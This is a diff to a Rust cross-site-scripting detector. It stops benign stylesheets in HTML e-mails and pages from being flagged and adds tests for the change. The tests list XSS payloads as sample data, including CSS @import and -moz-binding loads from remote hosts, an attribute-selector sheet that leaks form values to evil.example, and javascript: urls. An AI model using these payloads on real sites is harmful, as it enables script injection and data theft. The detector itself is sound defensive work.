@@ -294,6 +294,8 @@ fn tags(s: &str) -> Option<Found> {
     let mut found = None;
     let mut i = 0;
     let mut seen = 0;
+    // Raw-text elements the value opened: `<title>`, `<textarea>`, `<style>`.
+    let mut open_rawtext = [0u32; 3];
     while let Some(p) = b.get(i..).and_then(|r| memchr::memchr(b'<', r)) {
         let lt = i + p;
         i = lt + 1;
@@ -331,8 +333,18 @@ fn tags(s: &str) -> Option<Found> {
         // `<v:vmlframe>`, `<xi:include>`: judge the local name.
         let name = full.rsplit(':').next().unwrap_or("").to_string();
         if closing {
-            if name == "script" || name == "title" || name == "textarea" || name == "style" {
-                // `</script>` or `</title>` breaking out of a raw-text element.
+            // `</script>` or `</title>` breaking out of a raw-text element;
+            // not the end of one the value opened itself (an HTML page's
+            // `<title>`, a form's `<textarea>`, a plain stylesheet).
+            let opened = match name.as_str() {
+                "title" => &mut open_rawtext[0],
+                "textarea" => &mut open_rawtext[1],
+                "style" => &mut open_rawtext[2],
+                _ => &mut 0,
+            };
+            if *opened > 0 {
+                *opened -= 1;
+            } else if matches!(name.as_str(), "script" | "title" | "textarea" | "style") {
                 found = best(found, Some(("xss.close_rawtext", 0.6)));
             }
             continue;
@@ -353,7 +365,18 @@ fn tags(s: &str) -> Option<Found> {
         }
         match name.as_str() {
             "script" => found = best(found, Some(("xss.script_tag", 0.95))),
-            "style" => found = best(found, Some(("xss.style_tag", 0.6))),
+            // An HTML e-mail or a CMS page carries its own stylesheet; a
+            // style element is an attack for what its sheet does (imports,
+            // bindings, escapes, a probe with no sheet at all).
+            "style" => {
+                if plain_stylesheet(s.get(j..).unwrap_or("")) {
+                    open_rawtext[2] += 1;
+                } else {
+                    found = best(found, Some(("xss.style_tag", 0.6)));
+                }
+            }
+            "title" => open_rawtext[0] += 1,
+            "textarea" => open_rawtext[1] += 1,
             n if LOADING_TAGS.contains(&n) => found = best(found, Some(("xss.loading_tag", 0.75))),
             "meta"
                 if s.get(j..)
@@ -921,6 +944,60 @@ fn utf7_decode(s: &str) -> String {
     out
 }
 
+/// Whether `rest` (what follows `<style`) opens a stylesheet of plain rules
+/// (`body{font-family:Arial}`, `@media`, `url(https://...)` backgrounds):
+/// attributes without markup, a sheet with a rule and up to its end tag, and nothing CSS uses to load or run code or to hide from a
+/// filter: `@import`, `url(` to anything but an http(s) or relative
+/// address, escapes, `expression`, `behavior`, `binding`, `javascript`,
+/// attribute-value selectors beside a `url(` (a sheet that reads a form
+/// field out letter by letter).
+fn plain_stylesheet(rest: &str) -> bool {
+    let Some(gt) = memchr::memchr(b'>', rest.as_bytes()) else {
+        return false;
+    };
+    let (attrs, after) = (
+        rest.get(..gt).unwrap_or(""),
+        rest.get(gt + 1..).unwrap_or(""),
+    );
+    if attrs.contains(['<', '\\', '`', '(']) {
+        return false;
+    }
+    let after = after.to_ascii_lowercase();
+    let Some(end) = memchr::memmem::find(after.as_bytes(), b"</style") else {
+        return false;
+    };
+    let sheet = after.get(..end).unwrap_or("");
+    if !sheet.contains('{') || sheet.contains(['\\', '<', '`']) {
+        return false;
+    }
+    let mut urls = 0;
+    for (at, _) in sheet.match_indices("url(") {
+        urls += 1;
+        let arg = sheet.get(at + 4..).unwrap_or("");
+        let arg = arg.get(..arg.find(')').unwrap_or(arg.len())).unwrap_or("");
+        let target = arg.trim_start_matches([' ', '"', '\'']);
+        let web = target.starts_with("https://")
+            || target.starts_with("http://")
+            || target.starts_with("//")
+            || !target.contains(':');
+        if !web {
+            return false;
+        }
+    }
+    let selects_values = ["^=", "$=", "*="].iter().any(|o| sheet.contains(o));
+    !([
+        "@import",
+        "expression",
+        "behavior",
+        "binding",
+        "javascript",
+        "vbscript",
+    ]
+    .iter()
+    .any(|n| sheet.contains(n))
+        || (selects_values && urls > 0))
+}
+
 /// CSS that runs script: `url(javascript:`, `expression(`, `-moz-binding`.
 fn css(s: &str) -> Option<Found> {
     if !may_css(s) {
@@ -1346,6 +1423,35 @@ mod tests {
             assert_eq!(may_css(v), gate, "gate {v:?}");
             assert_eq!(css(v).is_some(), hit, "css {v:?}");
             assert!(gate || !hit, "css fires past its gate: {v:?}");
+        }
+    }
+
+    /// An HTML e-mail's or a CMS page's own stylesheet is markup, not an
+    /// attack; a style element that imports, binds, escapes, reads form
+    /// fields out through `url()`, or holds no sheet at all still is.
+    #[test]
+    fn plain_stylesheets_pass_and_loaded_ones_do_not() {
+        for b in [
+            "<html><head><style>body{font-family:Arial} .btn{color:#fff}</style></head><body><p>Hi</p></body></html>",
+            "<style type=\"text/css\">@media only screen and (max-width:600px){.col{width:100%!important}}</style>",
+            "<STYLE>td{background:url(https://cdn.example.com/bg.png) no-repeat}</STYLE><table><tr><td>x</td></tr></table>",
+            "<style>.hero{background-image:url('/img/hero.jpg')}</style>",
+        ] {
+            assert_eq!(detect(b), None, "flagged {b:?}");
+        }
+        for a in [
+            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
+            "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
+            "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+            "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
+            "<style>x{background:url(data:image/svg+xml;base64,PHN2Zz4=)}</style>",
+            "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
+            "<STYLE>=\\\\",
+            "<style>",
+            "<style>body{color:red}",
+            "<style onload=alert(1)>x{}</style>",
+        ] {
+            assert!(detect(a).is_some(), "missed {a:?}");
         }
     }
 }
